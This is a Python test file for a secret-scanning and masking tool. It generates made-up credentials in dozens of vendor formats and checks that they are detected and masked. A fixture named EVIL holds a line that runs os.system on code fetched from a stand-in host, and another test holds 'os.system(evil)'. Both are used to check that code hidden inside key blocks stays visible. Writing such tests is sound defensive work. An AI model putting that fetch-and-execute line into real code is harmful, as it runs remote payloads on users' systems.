"""Tokens here are put together when a test runs, so that no file of this repository holds anything shaped like one."""

from __future__ import annotations

import base64
import random
import re
import string
import zlib
from collections.abc import Callable
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reviewer.collect.secret_formats import _rows, formats
from reviewer.collect.secrets import mask, scan
from reviewer.findings import Confidence, Severity

HEX, LOWER, BASE62 = "0123456789abcdef", string.ascii_lowercase + string.digits, string.ascii_letters + string.digits
UPPER = string.ascii_uppercase + string.digits


def made(alphabet: str, length: int, seed: int = 7) -> str:
    """Random text that holds at least one digit."""
    source = random.Random(f"{alphabet}{length}{seed}")
    return "".join(source.choices(alphabet, k=length - 1)) + "7"


def encoded(size: int) -> str:
    return base64.b64encode(random.Random(size).randbytes(size)).decode()


def uuid() -> str:
    return "-".join(made(HEX, length) for length in (8, 4, 4, 4, 12))


def private_key(label: str = "RSA PRIVATE KEY", newline: str = "\n") -> str:
    body = newline.join(re.findall(".{1,64}", encoded(600)))
    return f"-----BEGIN {label}-----{newline}{body}{newline}-----END {label}-----"


def kinds(text: str) -> list[str]:
    return [secret.kind for secret in scan(text)]


TOKENS: dict[str, Callable[[], str]] = {
    "Anthropic API key": lambda: "sk-ant-api03-" + made(BASE62, 93) + "AA",
    "OpenAI API key": lambda: "sk-proj-" + made(BASE62, 74) + "T3Blbk" + "FJ" + made(BASE62, 74),
    "API key": lambda: "sk-" + made(BASE62, 48),
    "AWS access key id": lambda: "AKIA" + made(UPPER, 16),
    "Google API key": lambda: "AIza" + made(BASE62, 35),
    "Google OAuth client secret": lambda: "GOCSPX-" + made(BASE62, 28),
    "GitHub token": lambda: "github_pat_" + made(BASE62, 22) + "_" + made(BASE62, 59),
    "GitLab token": lambda: "glpat-" + made(BASE62, 20),
    "Slack token": lambda: f"xoxb-{made(string.digits, 12)}-{made(string.digits, 13)}-{made(BASE62, 24)}",
    "Slack webhook": lambda: f"https://hooks.slack.com/services/T{made(UPPER, 10)}/B{made(UPPER, 10)}/{made(BASE62, 24)}",
    "Stripe key": lambda: "sk_live_" + made(BASE62, 24),
    "Stripe test key": lambda: "sk_test_" + made(BASE62, 24),
    "npm token": lambda: "npm_" + made(BASE62, 36),
    "PyPI token": lambda: "pypi-AgE" + made(BASE62, 160),
    "Docker Hub token": lambda: "dckr_pat_" + made(BASE62, 27),
    "Hugging Face token": lambda: "hf_" + made(BASE62, 34),
    "Vault token": lambda: "hvs." + made(BASE62, 95),
    "Databricks token": lambda: "dapi" + made(HEX, 32),
    "DigitalOcean token": lambda: "dop_v1_" + made(HEX, 64),
    "SendGrid API key": lambda: f"SG.{made(BASE62, 22)}.{made(BASE62, 43)}",
    "Twilio API key": lambda: "SK" + made(HEX, 32),
    "Mailgun API key": lambda: "key-" + made(HEX, 32),
    "Mailchimp API key": lambda: made(HEX, 32) + "-us14",
    "Discord webhook": lambda: f"https://discord.com/api/webhooks/{made(string.digits, 18)}/{made(BASE62, 68)}",
    "Telegram bot token": lambda: f"{made(string.digits, 10)}:AA{made(BASE62, 33)}",
    "Shopify token": lambda: "shpat_" + made(HEX, 32),
    "Heroku API key": lambda: f"HEROKU_API_KEY={uuid()}",
    "Cloudflare token": lambda: "cfut_" + made(BASE62, 48),
    "Datadog key": lambda: f"DD_API_KEY={made(HEX, 32)}",
    "New Relic key": lambda: "NRAK-" + made(UPPER, 27),
    "Sentry token": lambda: "sntryu_" + made(HEX, 64),
    "Linear API key": lambda: "lin_api_" + made(BASE62, 40),
    "Notion token": lambda: "ntn_" + made(string.digits, 11) + made(BASE62, 35),
    "Postman API key": lambda: f"PMAK-{made(HEX, 24)}-{made(HEX, 34)}",
    "Terraform Cloud token": lambda: f"{made(BASE62, 14)}.atlasv1.{made(BASE62, 67)}",
    "age secret key": lambda: "AGE-SECRET-KEY-1" + made("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 58),
    "Azure storage key": lambda: f"AccountName=a;AccountKey={encoded(64)};",
    "Entra ID client secret": lambda: f"{made(BASE62, 3)}8Q~{made(BASE62, 34)}",
    "AWS secret access key": lambda: f"aws_secret_access_key = {made(BASE62 + '/+', 40)}",
    "private key": private_key,
    "encrypted private key": lambda: private_key("ENCRYPTED PRIVATE KEY"),
    "JSON web token": lambda: f"eyJhbGciOiJIUzI1NiJ9.eyJ{made(BASE62, 60)}.{made(BASE62, 43)}",
    "password in a URL": lambda: f"postgres://app:{made(BASE62, 14)}@db.internal:5432/app",
    "HTTP basic credentials": lambda: "Authorization: Basic " + base64.b64encode(f"app:{made(BASE62, 14)}".encode()).decode(),
    "bearer token": lambda: "curl -H 'X: Bearer " + made(BASE62, 40) + "'",
    "password for curl": lambda: f"curl -u app:{made(BASE62, 12)} https://internal",
    "password in .netrc": lambda: f"machine internal login app password {made(BASE62, 12)}",
    "password in a connection string": lambda: f"Server=db;Database=app;User Id=app;Password={made(BASE62, 12)};",
    "package registry credential": lambda: f"//registry.internal/:_authToken={made(BASE62, 36)}",
    "vendor credential": lambda: f'okta_key = "{made(BASE62, 42)}"',
    "secret value": lambda: f'DB_PASSWORD = "{made(BASE62, 16)}"',
    "password": lambda: "DB_PASSWORD=Summer" + "2019!",
    "session cookie": lambda: f"Set-Cookie: lang=en; PHPSESSID={made(HEX, 32)}",
    "Kubernetes secret": lambda: "kind: Secret\ndata:\n  login: " + base64.b64encode(made(LOWER, 18).encode()).decode(),
    "HTTP header credential": lambda: f'curl -H "X-Auth-Token: {made(LOWER, 10)}"',
    "AWS session token": lambda: f"aws_session_token = {made(BASE62, 300)}",
    "MongoDB Atlas secret": lambda: "mdb_sa_sk_" + made(BASE62, 40),
    "Render API key": lambda: "rnd_" + made(BASE62, 28),
    "Paddle API key": lambda: f"pdl_live_apikey_{made(LOWER, 26)}_{made(BASE62, 22)}_{made(BASE62, 3)}",
    "Packagist token": lambda: "packagist_ort_" + made(HEX, 68),
    "MailerSend API token": lambda: "mlsn." + made(HEX, 64),
    "ClickUp token": lambda: f"pk_{made(string.digits, 8)}_{made(UPPER, 32)}",
}


@pytest.mark.parametrize("kind", TOKENS)
def test_a_made_up_secret_of_each_kind_is_found_and_masked(kind: str) -> None:
    token = TOKENS[kind]()
    text = f"before\n{token}\nafter\n"
    (secret,) = scan(text)
    assert kind == secret.kind
    assert text[slice(*secret.span)] not in mask(text)
    assert f"[secret: {kind}]" in mask(text)


@pytest.mark.parametrize(
    "line",
    [
        'aws_access_key_id = "AKIA' + "IOSFODNN7" + 'EXAMPLE"',
        'api_key = "YOUR_API_KEY_1234567"',
        'api_key = "xxxxxxxxxxxxxxxx1234"',
        "password: ${DB_PASSWORD_2}",
        "password: {{ vault_pw_1 }}",
        'token = "<token>"',
        'token = os.environ["TOKEN_V2"]',
        "secret: process.env.S3_SECRET_2",
        'password = "changeme123"',
        'secret_key = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"',
        "postgres://postgres:postgres@localhost:5432/app",
        "postgres://user:password@localhost/app",
        "https://user:${TOKEN}@example.org/x.git",
        "-----BEGIN PRIVATE KEY-----",
        "if line == '-----BEGIN RSA PRIVATE KEY-----': return parse(rest, '-----END RSA PRIVATE KEY-----')",
        'tokenizer = "bert-base-uncased-v2"',
        'token_type = "urn:ietf:params:oauth:token-type:jwt"',
        '"LABEL_AUTH_TOKEN": "2FA-token"',
    ],
)
def test_a_stand_in_or_a_lookup_is_no_secret(line: str) -> None:
    assert kinds(line + "\n") == []


@pytest.mark.parametrize(
    "line",
    [
        f'checksum = "{made(HEX, 64)}"',
        f'"integrity": "sha512-{encoded(64)}"',
        f"github.com/aws/aws-sdk-go v1.2.3 h1:{encoded(32)}",
        f'password_hash = "{made(HEX, 64)}"',
        f'tokenAddress = "0x{made(HEX, 40)}"',
        f'secret_name = "{made(BASE62, 24)}"',
        f'"nextPageToken": "{made(BASE62, 40)}"',
        f'public_key = "{encoded(32)}"',
        f"commit {made(HEX, 40)}",
        f"<ProjectGuid>{{{uuid()}}}</ProjectGuid>",
        f"url(data:font/woff2;base64,{encoded(400)})",
        f'"contentHash": "{encoded(64)}", "azure": 1',
    ],
)
def test_random_text_without_a_telling_name_is_no_secret(line: str) -> None:
    assert kinds(line + "\n") == []


def test_no_value_is_kept_in_what_scan_gives() -> None:
    token = TOKENS["GitHub token"]()
    (secret,) = scan(f"x = '{token}'")
    assert token[11:] not in repr(secret)
    assert (secret.severity, secret.confidence, secret.start_line, secret.end_line) == (Severity.CRITICAL, Confidence.HIGH, 1, 1)


def test_a_github_token_with_a_wrong_checksum_is_doubted() -> None:
    body = made(BASE62, 30)
    number, digits = zlib.crc32(body.encode()), ""
    while number:
        number, digit = divmod(number, 62)
        digits = (string.digits + string.ascii_uppercase + string.ascii_lowercase)[digit] + digits
    (right,) = scan("ghp_" + body + digits.rjust(6, "0"))
    (wrong,) = scan("ghp_" + body + "000007")
    assert (right.confidence, wrong.confidence) == (Confidence.HIGH, Confidence.LOW)


def test_a_key_of_many_lines_keeps_its_lines_header_and_footer() -> None:
    text = f"a\n{private_key()}\nb\n"
    assert text.count("\n") == mask(text).count("\n")
    assert mask(text).startswith("a\n-----BEGIN RSA PRIVATE KEY-----[secret: private key]\n")
    assert mask(text).endswith("\n-----END RSA PRIVATE KEY-----\nb\n")


def test_a_key_on_one_line_is_found() -> None:
    assert kinds('{"private_key": "' + private_key("PRIVATE KEY", "\\n") + '"}') == ["private key"]


@pytest.mark.parametrize(
    "line",
    [
        '{"db": "{\\"password\\": \\"VALUE\\"}"}',
        "<Password>VALUE</Password>",
        '<add key="ClientSecret" value="VALUE" />',
        '{"name": "API_TOKEN", "value": "VALUE"}',
        "export API_TOKEN=VALUE",
        "api_token: VALUE",
        "curl https://internal --proxy-user app:VALUE",
        "host=db port=5432 user=app password=VALUE",
        "stripe: VALUE",
        "https://internal/?access_token=VALUE&page=2",
    ],
)
def test_a_value_is_found_in_the_form_that_each_language_gives_it(line: str) -> None:
    value = made(BASE62, 24)
    assert value not in mask(line.replace("VALUE", value) + "\n")


@pytest.mark.parametrize(
    "line",
    [
        "BasicAuth(username=user, password=self.password)",
        "connect(user=name, password=auth[2])",
        'tokenize("1_234.567_8e-10")',
        '"password_expires_at": "2016-11-06T15:32:17.000000"',
        f"github.com/ovh/go-ovh v1.9.0 h1:{encoded(32)}",
        'password: "at-least-8-characters"',
        f'<input name="csrf_token" value="{made(BASE62, 32)}">',
        "kind: Secret\nmetadata:\n  name: frontend\n  namespace: kubernetes\n",
    ],
)
def test_code_and_names_beside_a_telling_word_are_no_secret(line: str) -> None:
    assert kinds(line + "\n") == []


def test_random_text_of_one_case_is_told_from_words() -> None:
    assert kinds("bittrex_token: " + "ewyszm781qih0ok9" + "d52bkevxzrchqb7h\n") == ["vendor credential"]
    assert kinds("bittrex_token: frontend-settings2-for-every-customer\n") == []


def test_masking_a_masked_text_changes_nothing_and_no_placeholder_is_a_secret() -> None:
    text = "\n".join(f"{make()}\npassword: {make()}\ntoken = '{make()}'" for make in TOKENS.values())
    assert mask(mask(text)) == mask(text)
    shown = "".join(f"password: [secret: {kind.kind}]\ntoken='[secret: {kind.kind}]'\n" for kind in formats())
    assert kinds(shown) == []


def test_a_key_cut_before_its_footer_is_masked_to_the_end() -> None:
    text = private_key(newline="\\n")[:400]
    assert mask(text) == "-----BEGIN RSA PRIVATE KEY-----[secret: private key]"


def test_prose_after_a_header_is_no_key() -> None:
    prose = "It stands in a test, an example or documentation and may be made up; if it was ever real, it is public now. " * 3
    assert kinds(f"```\n-----BEGIN PRIVATE KEY-----\n```\n\n{prose}") == []


def test_a_longer_word_is_no_token() -> None:
    token = TOKENS["Google API key"]()
    assert kinds(f"{token}abc") + kinds(f"x{token}") == []
    assert kinds(f'"\\n{token}"') == ["Google API key"]


def test_offsets_are_characters_and_lines_are_those_of_the_text() -> None:
    token = TOKENS["Stripe key"]()
    text = f"é\u2028€\r\n\r\n😀 key = '{token}' # ü\n{token}"
    first, second = scan(text)
    assert [token, token] == [text[slice(*first.span)], text[slice(*second.span)]]
    assert [(first.start_line, first.end_line), (second.start_line, second.end_line)] == [(3, 3), (4, 4)]


def test_a_value_or_key_that_is_cut_within_a_letter_is_taken_out_with_the_whole_of_it() -> None:
    for fill in range(4):
        value = made(BASE62, 190 + fill)
        masked = mask(f"machine a login b password {value}{'😀' * 20}")
        assert masked.rstrip("😀") == "machine a login b password [secret: password in .netrc]"
        masked = mask("-----BEGIN PRIVATE KEY-----\n" + made(BASE62, 16_380 + fill) + "😀" * 9)
        assert masked.rstrip("😀") == "-----BEGIN PRIVATE KEY-----[secret: private key]\n"


def test_lone_surrogates_are_no_obstacle() -> None:
    token = TOKENS["Stripe key"]()
    assert mask(f"\udcff {token}") == "\udcff [secret: Stripe key]"


PIECES = st.sampled_from(
    [*(make() for make in TOKENS.values()), "\n", " ", "é", '"', "password = ", "token: ", "://", "-----BEGIN "]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=12)), max_size=12).map("".join))
def test_masking_keeps_lines_and_what_is_found_is_in_order_and_apart(text: str) -> None:
    secrets = list(scan(text))
    assert text.count("\n") == mask(text).count("\n")
    assert all(one.span[1] <= other.span[0] for one, other in pairwise(secrets))
    assert all(text.count("\n", 0, secret.span[0]) + 1 == secret.start_line for secret in secrets)


def test_every_row_says_where_its_format_is_written_down_and_repeats_are_bounded() -> None:
    assert len(formats()) == len(_rows()) > 100
    for row in _rows():
        assert row["source"], row["kind"]
        outside_classes = re.sub(r"\[(?:\\.|[^\]\\])*\]|\\.", "", str(row["pattern"]))
        assert not re.search(r"[*+]|,\}", outside_classes) or row.get("unbounded"), row["kind"]


EVIL = "import os\nos.system(fetch('//a.example/x'))\n"


@pytest.mark.parametrize("mark", ["", "# ", '    "'])
@pytest.mark.parametrize("footer", ["-----END PRIVATE KEY-----\n", ""])
def test_code_that_stands_within_a_key_is_not_taken_for_one(mark: str, footer: str) -> None:
    header, *body = private_key("PRIVATE KEY").split("\n")[:-1]
    lines = "".join(f"{mark}{line}\n" for line in (header, *body))
    masked = mask(f"{lines}{EVIL}{mark}{footer}{EVIL}" + "def ordinary() -> None: ...\n" * 500)
    assert masked.count(EVIL) == 2
    assert body[0] not in masked
    assert body[-1] not in masked


def test_code_on_the_line_of_a_header_stays() -> None:
    line = f'x = "-----BEGIN PRIVATE KEY-----"; os.system(evil) # {encoded(200)}\n'
    assert mask(line) == 'x = "-----BEGIN PRIVATE KEY-----"; os.system(evil) # [secret: private key]\n'


def test_a_program_of_brackets_within_a_key_stays() -> None:
    header, *body, footer = private_key("PRIVATE KEY").split("\n")
    program = "[][(![]+[])[+[]]]()"
    assert program in mask("\n".join([header, *body[:5], program, *body[5:], footer]))


def test_a_key_without_its_footer_is_found_however_much_follows() -> None:
    header, *body = private_key().split("\n")[:-1]
    masked = mask("\n".join([header, *body, ""]) + "def ordinary() -> None: ...\n" * 500)
    assert [line for line in body if line in masked] == []


def test_the_end_of_a_key_without_its_header_is_found() -> None:
    assert kinds("\n".join(private_key().split("\n")[-4:])) == ["private key"]
